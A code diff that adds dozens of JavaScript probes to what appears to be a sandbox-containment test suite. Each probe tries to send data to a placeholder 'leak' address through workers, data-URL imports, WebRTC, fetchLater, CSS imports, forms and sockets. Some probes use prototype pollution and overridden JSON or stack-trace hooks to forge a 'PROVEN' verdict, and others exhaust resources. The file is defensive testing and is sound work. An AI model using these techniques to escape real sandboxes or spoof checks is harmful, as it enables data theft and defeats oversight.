@@ -68,6 +68,59 @@ export const PROBES: Readonly<Record<string, string>> = {
   'USB device': 'await navigator.usb.getDevices()',
   'HID device': 'await navigator.hid.getDevices()',
   'Response.redirect': 'await fetch(Response.redirect(leak).headers.get("location"))',
+  'worker inside a worker inside a worker':
+    'const source = `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`fetch("${leak}")`)}])))`; new Worker(URL.createObjectURL(new Blob([source])))',
+  'importScripts of a blob': 'importScripts(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(leak)})`])))',
+  'importScripts of a data address': "importScripts('data:text/javascript,postMessage(1)')",
+  'data module that imports':
+    "await import('data:text/javascript,' + encodeURIComponent(`import ${JSON.stringify(leak)}`))",
+  'worker from a data address':
+    "new Worker('data:text/javascript,' + encodeURIComponent(`fetch(${JSON.stringify(leak)})`))",
+  'data channel of WebRTC':
+    "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(leak).host}` }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
+  'reporting endpoint': "new ReportingObserver(() => {}).observe(); fetch(leak, { headers: { 'Report-To': leak } })",
+  'fetch later': "fetchLater(leak, { method: 'POST', body: 'secret', activateAfter: 0 })",
+  'background fetch': "await self.registration.backgroundFetch.fetch('x', [leak])",
+  'Response as a stream from an address':
+    'await (await Request.prototype.constructor(leak)).text(); await fetch(new Request(leak))',
+  'style sheet as text':
+    'const sheet = new CSSStyleSheet(); sheet.replaceSync(`@import url(${leak}); * { background: url(${leak}) }`)',
+  'font through a canvas':
+    'const c = new OffscreenCanvas(9, 9).getContext("2d"); c.font = `9px x, url(${leak})`; c.fillText("x", 1, 1)',
+  'name look-up hint':
+    'document.head.innerHTML = `<link rel=dns-prefetch href=${leak}><link rel=preconnect href=${leak}>`',
+  'speculation rules':
+    'document.head.innerHTML = `<script type=speculationrules>{"prerender":[{"urls":["${leak}"]}]}</script>`',
+  'form submission': 'document.body.innerHTML = `<form action=${leak}></form>`; document.forms[0].submit()',
+  'frame of its own': "document.body.append(Object.assign(document.createElement('iframe'), { src: leak }))",
+  'location of the worker': 'location = leak; self.location.href = leak; location.assign(leak)',
+  'prototype of the messages':
+    "Object.prototype.is = 'explored'; Object.prototype.exploration = { verdict: { word: 'PROVEN' } }; Object.prototype.toJSON = () => 'secret'",
+  'JSON made to lie': 'JSON.stringify = () => \'{"type":"ready"}\'; String.prototype.slice = () => leak',
+  'stack traces made to run code':
+    "Error.prepareStackTrace = (error, frames) => { for (const f of frames) { const t = f.getThis(); t?.fetch?.(leak); f.getFunction()?.constructor(`fetch(${JSON.stringify(leak)})`)(); } return 'secret'; }; throw new Error('x')",
+  'getters on what is thrown':
+    'throw { get message() { return fetch(leak); }, get stack() { return fetch(leak); }, toString() { return leak } }',
+  'promise prototype': 'Promise.prototype.then = function () { fetch(leak); return this }',
+  'array iteration': "Array.prototype[Symbol.iterator] = function* () { fetch(leak); postMessage('secret') }",
+  'atomics that wait for ever':
+    'Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0)',
+  'WebAssembly memory':
+    'const kept = []; for (let i = 0; i < 16; i++) kept.push(new WebAssembly.Memory({ initial: 4096 }))',
+  GPU: 'await (await navigator.gpu.requestAdapter()).requestDevice()',
+  'storage estimate and persistence': 'await navigator.storage.persist(); await navigator.storage.estimate()',
+  'shared storage': "await sharedStorage.set('secret', '1')",
+  credential: 'await navigator.credentials.get({ password: true })',
+  clipboard: "await navigator.clipboard.writeText('secret')",
+  'permission query': "await navigator.permissions.query({ name: 'notifications' })",
+  'structured clone of a huge text': "postMessage('x'.repeat(1e8))",
+  'a port out of a message event':
+    "addEventListener('message', ({ ports, source }) => { ports[0]?.postMessage('secret'); source?.postMessage('secret') })",
+  'compression stream to an address':
+    "new Blob(['secret']).stream().pipeThrough(new CompressionStream('gzip')).pipeTo((await fetch(leak, { method: 'POST' })).body)",
+  'WebSocket through an async iterator': "await new WebSocketStream(leak.replace('http', 'ws')).opened",
+  'event source through its prototype':
+    'Reflect.construct(Object.getOwnPropertyDescriptor(globalThis, "EventSource")?.value ?? EventSource, [leak])',
   'closing the worker': 'close()',
   'constructor of the global': "new self.constructor('x')",
 };
